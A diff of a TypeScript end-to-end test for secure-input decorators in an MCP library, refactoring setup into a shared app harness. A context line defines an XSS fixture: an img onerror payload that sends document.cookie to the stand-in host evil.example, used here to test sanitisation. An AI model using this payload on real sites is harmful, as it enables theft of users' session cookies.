@@ -2,16 +2,15 @@ import { IsEmail, IsString, Length, MaxLength } from 'class-validator';
 import { injectable } from 'tsyringe';
 import {
   createMcpApp,
-  createTestClient,
   EscapeHtml,
   McpDefinitionError,
   NoScriptContent,
   SecureInput,
   Tool,
   Trim,
-  type McpApp,
   type TestClient,
 } from 'mcp-decorators';
+import { useApps } from '../support/app-harness';
 
 const XSS = `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`;
 
@@ -51,25 +50,17 @@ describe.each([['2026-07-28'], ['2025-11-25']])('secure input, end to end throug
     }
   }
 
-  let app: McpApp;
+  const apps = useApps('all');
   let client: TestClient;
   let tools: Tools;
 
   beforeAll(async () => {
-    app = await createMcpApp({
-      name: 'secure',
-      version: '1',
-      providers: [Tools],
-      logger: { level: 'error' },
-      inputLimits: { maxStringLength: 64, maxDepth: 4 },
-    });
-    client = await createTestClient(app, { protocolVersion });
-    tools = app.container.resolve(Tools);
-  });
-
-  afterAll(async () => {
-    await client.close();
-    await app.close();
+    const started = await apps.start(
+      { name: 'secure', version: '1', providers: [Tools], logger: { level: 'error' }, inputLimits: { maxStringLength: 64, maxDepth: 4 } },
+      { protocolVersion },
+    );
+    client = started.client;
+    tools = started.app.container.resolve(Tools);
   });
 
   beforeEach(() => tools.received.splice(0));
